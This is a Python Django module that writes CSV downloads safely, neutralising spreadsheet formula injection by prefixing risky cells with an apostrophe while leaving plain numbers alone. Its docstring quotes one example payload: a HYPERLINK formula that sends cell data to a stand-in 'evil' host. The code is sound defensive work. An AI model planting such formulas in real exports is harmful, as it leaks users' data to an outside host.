"""CSV downloads that are safe to open in a spreadsheet: every CSV export writes its cells
through `spreadsheet_safe` (or `csv_response`, which does), so none can run a formula.

A spreadsheet runs a cell that starts with = + - @ (and, after it strips them, a tab, CR or
LF) as a formula: `=HYPERLINK("http://evil/?"&A1, "Click")` sends data away, DDE payloads
start programs (OWASP "CSV Injection"). Such text gets a leading apostrophe, which
spreadsheets show as text and do not display. Numbers stay numbers: an int, float or Decimal
is written as it is (-1.5 is a number, never a formula), and so is text that is exactly a
plain decimal number such as "-1.5" or "+3" (a class label "-1"), which a spreadsheet also
reads as a number. Anything else that starts with one of those characters, "-1+2" included,
is text and is neutralised. A reader that wants the original text back strips one leading
apostrophe from a cell that has one.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from django.http import StreamingHttpResponse

# The first characters a spreadsheet treats as the start of a formula (OWASP), plus LF.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_safe(value: Any) -> str | int | float | Decimal:
    """One CSV cell: None is empty, numbers stay as they are, JSON lists and objects are
    compact JSON, datetimes ISO 8601, and text that a spreadsheet would run as a formula
    gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool | dict | list | tuple):
        text = json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    elif isinstance(value, int | float | Decimal):
        return value
    elif isinstance(value, datetime | date):
        text = value.isoformat()
    else:
        text = str(value)
    if text.lstrip(" ").startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose write() returns the line, for csv.writer to stream."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The header line, then one line per row, every cell through spreadsheet_safe."""
    writer = csv.writer(_Echo())
    yield writer.writerow([spreadsheet_safe(name) for name in header])
    for row in rows:
        yield writer.writerow([spreadsheet_safe(value) for value in row])


def csv_response(
    header: Sequence[str], rows: Iterable[Sequence[Any]], *, filename: str
) -> StreamingHttpResponse:
    """A streamed CSV download (`rows` is read lazily, so a large export stays in bounded
    memory); `filename` is ours (ids and slugs), never free text."""
    response = StreamingHttpResponse(
        csv_lines(header, rows), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
